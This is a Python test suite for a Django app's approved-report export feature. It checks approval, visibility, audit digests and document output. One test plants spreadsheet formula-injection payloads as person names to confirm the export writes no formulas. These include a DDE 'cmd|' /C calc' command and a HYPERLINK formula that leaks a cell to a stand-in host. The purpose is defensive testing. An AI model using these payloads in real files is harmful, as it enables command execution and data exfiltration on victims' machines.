"""A ledger from the question to the file: what is in it, what is not, who it came from."""

from hashlib import sha256
from io import BytesIO
from re import findall
from zipfile import ZipFile

import docx
import pytest
from django.urls import reverse
from python_calamine import CalamineWorkbook

from issue_builders import held_talk, issue_in
from talk_steps import SAID, asked, duty_of, recorded
from tanxin.apps.audit.models import AuditDetail, AuditLeaf
from tanxin.apps.reports.models import Export, Taken
from world import NAMES

WHY = "报送年度检查"
DAYS = {"first": "2026-01-01", "last": "2027-12-31"}
SHEETS = ["talks", "duties", "requests", "issues"]
# What a spreadsheet would run: sixteen ways to begin, three things to do.
STARTS = [
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    "＝",
    "＋",
    "－",
    "＠",
    " =",
    "'=",
    "{=",
    "%=",
    "|",
]
PAYLOADS = [
    start + what
    for start in STARTS
    for what in ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://x/?"&A1)')
]


def ask(client, unit="", **more):
    form = {"unit": unit, "sheets": SHEETS, "reason": WHY, **DAYS, **more}
    return client.post(reverse("reports:ask"), form)


def take(client, row, file="xlsx"):
    return client.post(reverse("reports:take", args=[row.pk, file]))


def cells(answer):
    assert answer.status_code == 200, answer
    book = CalamineWorkbook.from_filelike(BytesIO(answer.content))
    return {name: book.get_sheet_by_name(name).to_python() for name in book.sheet_names}


def granted(world, client_of, who="dora"):
    assert ask(client_of(who), str(world.units["commission"])).status_code == 303
    row = Export.objects.latest("asked_at")
    assert client_of("sol").post(reverse("reports:approve", args=[row.pk])).status_code == 303
    return row


def test_an_organiser_asks_another_approves_and_the_file_names_who_took_it(world, client_of, sol):
    talk = recorded(world)
    duty_of(world, "emil", "ben", unit_id=world.units["planning"])
    assert ask(client_of("dora"), str(world.units["commission"])).status_code == 303
    row = Export.objects.get()
    there = reverse("reports:export", args=[row.pk])
    assert there in client_of("sol").get(reverse("reports:start")).content.decode()
    assert WHY in client_of("sol").get(there).content.decode()
    assert take(client_of("dora"), row).status_code == 422

    assert client_of("sol").post(f"{there}approve/").status_code == 303
    answer = take(client_of("dora"), row)

    found = cells(answer)
    assert list(found)[:5] == ["说明", "谈话", "应谈", "约谈申请", "问题和措施"]
    line = found["谈话"][1]
    assert (line[2], line[4], line[6]) == (NAMES["ada"], NAMES["ben"], "日常工作")
    assert found["应谈"][1][1] == NAMES["emil"]
    assert SAID not in str(found)
    assert len(found["约谈申请"]) == len(found["问题和措施"]) == 1
    cover = str(found["说明"])
    assert f"{NAMES['dora']} 20" in cover
    assert reverse("reports:figures", args=[world.units["commission"]]) in cover
    taken = Taken.objects.get()
    assert bytes(taken.digest) == sha256(answer.content).digest()
    leaf = AuditLeaf.objects.get(event="export.taken")
    detail = AuditDetail.objects.get(leaf=leaf.pk).content
    assert detail["digest"] == sha256(answer.content).hexdigest()
    assert detail["taken"] == str(taken.pk)
    parts = ZipFile(BytesIO(answer.content))
    every = {name: parts.read(name).decode() for name in parts.namelist() if name.endswith(".xml")}
    assert str(taken.pk) in every["docProps/custom.xml"]
    pages = [text for name, text in every.items() if name.startswith("xl/worksheets/sheet")]
    assert sum(NAMES["dora"] in text for text in pages) == 5
    assert str(talk.pk) not in str(every)
    assert taken.digest.hex() in client_of("sol").get(there).content.decode()


def test_everybody_takes_what_is_his_own_at_once_and_nothing_of_others(world, client_of):
    mine, others = recorded(world), held_talk(world)
    assert others.pk != mine.pk
    asked(world)
    for name, talks, requests in (("ben", 2, 1), ("cleo", 0, 0), ("dora", 0, 0)):
        assert ask(client_of(name)).status_code == 303
        found = cells(take(client_of(name), Export.objects.latest("asked_at")))
        assert len(found["谈话"]) == talks + 1, name
        assert len(found["约谈申请"]) == requests + 1, name


def test_the_two_of_a_matter_see_its_kind_and_who_solves_it_not_whose_it_is(world, client_of, sol):
    talk = held_talk(world)
    for name in ("omar", "vera"):
        world.person(name, name)
        world.account(name)
    issue_in(world, "reported", talk=talk, owner="omar", verifier="vera")

    assert ask(client_of("omar")).status_code == 303
    his = cells(take(client_of("omar"), Export.objects.latest("asked_at")))
    assert NAMES["ben"] not in str(his)
    assert his["问题和措施"][1][5] == ""
    watched = cells(take(client_of("dora"), granted(world, client_of)))
    assert len(watched["问题和措施"]) == 1


def test_no_cell_is_a_formula_whatever_a_name_begins_with(world, client_of):
    for at, payload in enumerate(PAYLOADS):
        world.person(f"p{at}", payload)
        duty_of(world, "ada", f"p{at}", unit_id=world.units["planning"])
    assert ask(client_of("ada")).status_code == 303

    answer = take(client_of("ada"), Export.objects.get())

    parts = ZipFile(BytesIO(answer.content))
    for name in parts.namelist():
        if name.startswith("xl/worksheets/sheet"):
            assert not findall(rb"<f[ >/]", parts.read(name)), name
    assert len(cells(answer)["应谈"]) == len(PAYLOADS) + 1


@pytest.mark.parametrize("file", ["docx", "pdf"])
def test_the_register_is_a_paper_with_the_talks_that_were_held(world, client_of, file):
    recorded(world)
    assert ask(client_of("ada")).status_code == 303

    answer = take(client_of("ada"), Export.objects.get(), file)

    assert answer.status_code == 200
    if file == "docx":
        made = docx.Document(BytesIO(answer.content))
        table = made.tables[-1]
        assert [cell.text for cell in table.rows[1].cells][2:4] == [NAMES["ada"], NAMES["ben"]]
        assert made.sections[0].footer.paragraphs[0].text.startswith(NAMES["ada"])


def test_what_is_refused_or_unfit_says_so(world, client_of, sol):
    assert ask(client_of("dora"), last="2025-01-01").status_code == 422
    assert ask(client_of("dora"), unit=str(world.units["commission"])).status_code == 303
    row = Export.objects.get()
    there = reverse("reports:export", args=[row.pk])
    sol_s = client_of("sol")
    assert sol_s.post(f"{there}refuse/", {"answer": " "}).status_code == 422
    assert sol_s.post(f"{there}refuse/", {"answer": "先核对名单"}).status_code == 303
    assert "先核对名单" in client_of("dora").get(there).content.decode()
    assert sol_s.post(f"{there}approve/").status_code == 422
    assert client_of("cleo").get(there).status_code == 404
    assert ask(client_of("dora"), unit=str(world.units["commission"])).status_code == 303
    other = Export.objects.latest("asked_at")
    back = reverse("reports:withdraw", args=[other.pk])
    assert client_of("dora").post(back).status_code == 303


def test_every_figure_leads_to_the_list_it_counts(world, client_of, sol):
    recorded(world)
    issue_in(world, "raised", talk=held_talk(world))
    duty_of(world, "emil", "ben", unit_id=world.units["planning"], due="2026-12-30")
    there = world.units["commission"]
    for name in ("dora", "sol"):
        client = client_of(name)
        page = client.get(reverse("reports:figures", args=[there]), DAYS)
        found = findall(r'<a href="([^"]+)"><b>(\d+)</b>', page.content.decode())
        assert len(found) >= 3, name
        for url, number in found:
            rows = client.get(url.replace("&amp;", "&")).content.decode().split("<tbody>")[1]
            assert rows.count("<tr>") == int(number), url
    page, rows = (reverse(f"reports:{name}", args=[there]) for name in ("figures", "list"))
    assert "少于 5" in client_of("dora").get(page).content.decode()
    assert client_of("cleo").get(page).status_code == 403
    none = client_of("dora").get(rows, {"of": "issues.raised"})
    assert none.status_code == 404
